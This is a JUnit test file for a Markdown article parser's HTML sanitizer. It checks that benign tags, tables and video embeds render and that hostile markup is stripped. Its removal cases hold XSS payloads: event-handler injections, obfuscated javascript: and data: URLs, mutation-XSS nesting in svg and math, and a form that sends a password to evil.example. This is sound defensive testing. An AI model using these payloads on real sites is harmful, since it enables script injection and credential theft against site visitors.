package dev.galley.article;

import dev.galley.site.SiteConfig;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/** Raw HTML in an article body: what technical posts use is rendered, everything else removed, never shown as text. */
class RawHtmlTest {

    private static final ArticleParser PARSER = new ArticleParser(SiteConfig.defaults());

    static String body(String markdown) throws ArticleException {
        return body(PARSER, markdown);
    }

    static String body(ArticleParser parser, String markdown) throws ArticleException {
        String file = "---\ntitle: T\ndate: 2026-01-01\n---\n" + markdown;
        return parser.parse("posts/zero-downtime.md", file.getBytes(StandardCharsets.UTF_8)).bodyHtml();
    }

    static Stream<Arguments> rendered() {
        String twentyColumns = IntStream.rangeClosed(1, 20).mapToObj(i -> "<th>c" + i + "</th>").collect(Collectors.joining());
        return Stream.of(
                arguments("details and summary, with Markdown inside", """
                        <details>
                        <summary>Show the <code>EXPLAIN ANALYZE</code> output</summary>

                        Seq Scan on **users** (cost=0.00..35.50 rows=2550 width=4)

                        </details>
                        """, "<details>\n<summary>Show the <code>EXPLAIN ANALYZE</code> output</summary>\n"
                        + "<p>Seq Scan on <strong>users</strong> (cost=0.00..35.50 rows=2550 width=4)</p>\n</details>"),
                arguments("a 20-column table", "<table>\n<thead><tr>" + twentyColumns + "</tr></thead>\n"
                        + "<tbody><tr><td colspan=\"20\">all</td></tr></tbody>\n</table>\n",
                        "<table>\n<thead><tr>" + twentyColumns + "</tr></thead>\n<tbody><tr><td colspan=\"20\">all</td></tr></tbody>\n</table>"),
                arguments("<br/> inside a Markdown table cell", """
                        | Flag | Meaning |
                        |------|---------|
                        | `-n` | dry run<br/>prints what would change |
                        """, "<td>dry run<br>prints what would change</td>"),
                arguments("a centred image beside the article, in a div", """
                        <div align="center">
                          <img src="zero-downtime/schema.png" width="600" height="400" alt="Schema before and after" loading="lazy">
                        </div>
                        """, "<div align=\"center\">\n  <img src=\"/media/posts/zero-downtime/schema.png\" width=\"600\" height=\"400\" "
                        + "alt=\"Schema before and after\" loading=\"lazy\">\n</div>"),
                arguments("picture and source with relative srcsets", """
                        <picture>
                          <source srcset="dark.avif 1x, dark@2x.avif 2x" media="(prefers-color-scheme: dark)" type="image/avif">
                          <img src="light.png" srcset="https://cdn.example.com/light@2x.png 2x" alt="Architecture">
                        </picture>
                        """, "<source srcset=\"/media/posts/dark.avif 1x, /media/posts/dark@2x.avif 2x\" "
                        + "media=\"(prefers-color-scheme: dark)\" type=\"image/avif\">\n  <img src=\"/media/posts/light.png\" "
                        + "srcset=\"https://cdn.example.com/light@2x.png 2x\" alt=\"Architecture\">"),
                arguments("video with controls, poster and sources", """
                        <video controls width="640" poster="demo.jpg" preload="metadata">
                          <source src="demo.webm" type="video/webm">
                          <track kind="captions" src="demo.vtt" srclang="en" label="English">
                        </video>
                        """, "<video controls=\"\" width=\"640\" poster=\"/media/posts/demo.jpg\" preload=\"metadata\">\n  "
                        + "<source src=\"/media/posts/demo.webm\" type=\"video/webm\">\n  "
                        + "<track kind=\"captions\" src=\"/media/posts/demo.vtt\" srclang=\"en\" label=\"English\">\n</video>"),
                arguments("audio with controls", "<audio controls=\"\" src=\"https://example.com/episode-12.mp3\"></audio>\n",
                        "<audio controls=\"\" src=\"https://example.com/episode-12.mp3\"></audio>"),
                arguments("figure and figcaption", """
                        <figure>
                          <img src="/media/flame.svg.png" alt="Flame graph">
                          <figcaption>CPU time by stack, after the fix</figcaption>
                        </figure>
                        """, "<figure>\n  <img src=\"/media/flame.svg.png\" alt=\"Flame graph\">\n  "
                        + "<figcaption>CPU time by stack, after the fix</figcaption>\n</figure>"),
                arguments("inline sup, sub, kbd, abbr, mark, ins, del", """
                        Press <kbd>Ctrl</kbd>+<kbd>C</kbd>; O(n<sup>2</sup>) of H<sub>2</sub>O; the <abbr title="Write-Ahead Log">WAL</abbr>
                        is <mark>fsynced</mark>, <del>twice</del> <ins>once</ins>.
                        """, "<p>Press <kbd>Ctrl</kbd>+<kbd>C</kbd>; O(n<sup>2</sup>) of H<sub>2</sub>O; the <abbr title=\"Write-Ahead Log\">"
                        + "WAL</abbr>\nis <mark>fsynced</mark>, <del>twice</del> <ins>once</ins>.</p>"),
                arguments("a definition list", "<dl>\n<dt>RPO</dt>\n<dd>how much data you may lose</dd>\n</dl>\n",
                        "<dl>\n<dt>RPO</dt>\n<dd>how much data you may lose</dd>\n</dl>"),
                arguments("div and span with classes", "<div class=\"note\"><span class=\"label\">Note</span> Back up first.</div>\n",
                        "<div class=\"note\"><span class=\"label\">Note</span> Back up first.</div>"),
                arguments("YouTube's copied embed code, moved to the privacy-enhanced host", """
                        <iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=Hx2" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>
                        """, "<iframe src=\"https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?si=Hx2\" width=\"560\" height=\"315\" "
                        + "title=\"YouTube video player\" loading=\"lazy\" sandbox=\"allow-scripts allow-same-origin allow-presentation\" "
                        + "allowfullscreen></iframe>"),
                arguments("Vimeo's embed code, given a title", """
                        <div style="padding:56.25% 0 0 0;position:relative;"><iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e" frameborder="0" allow="autoplay; fullscreen"></iframe></div>
                        """, "<div><iframe src=\"https://player.vimeo.com/video/76979871?h=8272103f6e\" title=\"Embedded video\" "
                        + "loading=\"lazy\" sandbox=\"allow-scripts allow-same-origin allow-presentation\" allowfullscreen></iframe></div>"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void rendered(String name, String markdown, String expected) throws Exception {
        String html = body(markdown);
        assertTrue(html.contains(expected), name + ":\n" + html);
        assertFalse(html.contains("&lt;"), name + " shows markup as text:\n" + html);
    }

    static Stream<Arguments> removed() {
        return Stream.of(
                arguments("a markdownlint comment", "<!-- markdownlint-disable MD033 -->\nText.\n", "markdownlint", "Text."),
                arguments("a Prettier comment before a table", """
                        <!-- prettier-ignore -->
                        | Column | Other |
                        |---|---|
                        | a | b |
                        """, "prettier", "<td>a</td>"),
                arguments("an inline comment", "Text <!-- TODO: link the RFC --> here.\n", "TODO", "<p>Text  here.</p>"),
                arguments("script, with its code", "<script>window.__pwned=1</script>\n\nText.\n", "__pwned", "Text."),
                arguments("style", "<style>body { display: none }</style>\n\nText.\n", "display", "Text."),
                arguments("event handlers", "<details open ontoggle=\"window.__pwned=1\"><summary>x</summary></details>\n", "__pwned",
                        "<details open><summary>x</summary></details>"),
                arguments("img onerror inside an allowed tag", "<kbd><img src=x onerror=\"window.__pwned=1\"></kbd>\n", "__pwned",
                        "<kbd><img src=\"/media/posts/x\"></kbd>"),
                arguments("a style attribute", "<div style=\"position:fixed;inset:0\" class=\"cover\">x</div>\n", "position",
                        "<div class=\"cover\">x</div>"),
                arguments("javascript: links, mixed case and entity-encoded", """
                        <a href="JaVaScRiPt:window.__pwned=1">a</a> <a href="&#106;avascript:window.__pwned=1">b</a> <a href="java&#9;script:window.__pwned=1">c</a>
                        """, "__pwned", "<a>a</a> <a>b</a> <a>c</a>"),
                arguments("data: URLs, images included", """
                        <img src="data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E" alt="d"> <a href="data:text/html,x">d</a>
                        """, "data:", "<img alt=\"d\"> <a>d</a>"),
                arguments("srcset with a javascript: candidate", "<img src=\"a.png\" srcset=\"a2.png 2x, javascript:window.__pwned=1 3x\" alt=\"a\">\n",
                        "__pwned", "<img src=\"/media/posts/a.png\" alt=\"a\">"),
                arguments("forms, inputs and buttons", """
                        <form action="https://evil.example/steal"><input name="password" type="password"><button formaction="javascript:x">Go</button></form>
                        """, "password", "<input type=\"checkbox\" disabled>Go"),
                arguments("base, meta, link, object, embed", """
                        <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
                        <link rel="stylesheet" href="https://evil.example/x.css"><object data="x.swf"></object><embed src="x.swf">
                        """, "evil", ""),
                arguments("an iframe from a host not allowed", "<iframe src=\"https://evil.example/\"></iframe>\n\nText.\n", "iframe", "Text."),
                arguments("an iframe over http from an allowed host", "<iframe src=\"http://player.vimeo.com/video/1\"></iframe>\n", "iframe", ""),
                arguments("an iframe with srcdoc and a handler on an allowed host", """
                        <iframe src="https://player.vimeo.com/video/1" srcdoc="<script>parent.__pwned=1</script>" onload="window.__pwned=1"><script>x</script></iframe>
                        """, "__pwned", "<iframe src=\"https://player.vimeo.com/video/1\" title=\"Embedded video\" loading=\"lazy\" "
                        + "sandbox=\"allow-scripts allow-same-origin allow-presentation\" allowfullscreen></iframe>"),
                arguments("an allowed host in an iframe's credentials", "<iframe src=\"https://player.vimeo.com@evil.example/\"></iframe>\n", "iframe", ""),
                arguments("svg and math, with mutation XSS nesting", """
                        <svg><style><img src=x onerror="window.__pwned=1"></style></svg>
                        <math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1"></style></mglyph></table></mtext></math>
                        <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
                        """, "__pwned", ""),
                arguments("a quote-breaking attribute", "<abbr title='\" onmouseover=\"window.__pwned=1'>x</abbr>\n", "onmouseover=\"",
                        "<abbr title=\"&quot; onmouseover=&quot;window.__pwned=1\">x</abbr>"),
                arguments("closing tags of the page around the body", "</p></div></article></main><p>after</p>\n", "</main>", "<p>after</p>"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void removed(String name, String markdown, String gone, String kept) throws Exception {
        String html = body(markdown);
        assertFalse(html.contains(gone), name + ": " + gone + " survived:\n" + html);
        assertTrue(html.contains(kept), name + ": " + kept + " is missing:\n" + html);
        assertFalse(html.contains("&lt;") || html.contains("<!--"), name + " shows markup as text:\n" + html);
        for (Element element : Jsoup.parseBodyFragment(html).body().getAllElements()) {
            assertFalse(Set.of("script", "style", "svg", "math", "form", "base", "meta", "object", "embed", "link").contains(element.normalName()),
                    name + ": " + element);
            for (Attribute attribute : element.attributes()) {
                String key = attribute.getKey().toLowerCase(Locale.ROOT);
                assertFalse(key.startsWith("on") || key.equals("style") || key.equals("srcdoc"), name + ": " + element);
            }
        }
    }

    @Test
    void ourOwnMarkupSurvivesTheSanitizerUnchanged() throws Exception {
        String markdown = """
                ## Why `ALTER TABLE` locks

                | Lock | Blocks |
                |:-----|-------:|
                | ACCESS EXCLUSIVE | everything |

                - [x] add the column
                - [ ] backfill

                1. first
                3) third

                ~~Never~~ *rarely* **always** https://example.com, <ops@example.com>, [docs](/articles/x/ "Docs").[^wal]

                ![Schema](schema.png "Before")

                ```sql title="migrate.sql"
                ALTER TABLE users ADD COLUMN email_verified boolean DEFAULT false; -- fast
                ```

                    indented code

                > A quote.

                ---

                [^wal]: The write-ahead log.
                """;
        String withoutRawHtml = body(markdown);
        String sanitized = body(markdown + "\n<!-- prettier-ignore-end -->\n");
        assertFalse(withoutRawHtml.equals(sanitized), "the second body must have gone through the sanitizer");
        assertEquals(normalised(withoutRawHtml), normalised(sanitized));
    }

    /** The same DOM gives the same text: attributes written out in full ({@code x=""}), blank lines dropped. */
    private static String normalised(String html) {
        var document = Jsoup.parseBodyFragment(html);
        document.outputSettings().prettyPrint(false).syntax(org.jsoup.nodes.Document.OutputSettings.Syntax.xml);
        return document.body().html().replaceAll("\n\\s*\n", "\n").strip();
    }

    @Test
    void inlineTagsNeverReachSummariesOrHeadingsAsText() throws Exception {
        Article article = PARSER.parse("a.md", """
                ---
                title: T
                date: 2026-01-01
                ---
                ## Stop it with <kbd>Ctrl</kbd>+<kbd>C</kbd>

                Press <kbd>Ctrl</kbd>+<kbd>C</kbd> to stop the server<!-- TODO: Windows -->; E = mc<sup>2</sup>.
                """.getBytes(StandardCharsets.UTF_8));
        assertEquals(List.of("Press Ctrl+C to stop the server; E = mc2."), article.summary().summary());
        assertEquals(List.of(new TocEntry(2, "stop-it-with-ctrlc", "Stop it with Ctrl+C")), article.toc());
    }

    @Test
    void theSiteChoosesTheEmbedHosts() throws Exception {
        SiteConfig site = SiteConfig.parse("site.yaml", "title: Pens\nembedHosts: [codepen.io]\n".getBytes(StandardCharsets.UTF_8));
        ArticleParser parser = new ArticleParser(site);
        String html = body(parser, """
                <iframe src="https://codepen.io/team/codepen/embed/PNaGbb" title="A pen"></iframe>

                <iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>
                """);
        assertTrue(html.contains("<iframe src=\"https://codepen.io/team/codepen/embed/PNaGbb\" title=\"A pen\""), html);
        assertFalse(html.contains("youtube"), "the site's list replaces the default one: " + html);
    }

    @Test
    void anEmbedHostThatIsNotAHostNameIsAnErrorOnItsLine() {
        ArticleException e = org.junit.jupiter.api.Assertions.assertThrows(ArticleException.class, () -> SiteConfig.parse("site.yaml",
                "title: T\nembedHosts:\n  - https://codepen.io/\n".getBytes(StandardCharsets.UTF_8)));
        assertEquals(2, e.line());
        assertTrue(e.getMessage().startsWith("site.yaml:2: embedHosts must be a list of host names without https://"), e.getMessage());
        assertEquals(SiteConfig.DEFAULT_EMBED_HOSTS, SiteConfig.defaults().embedHosts());
    }
}
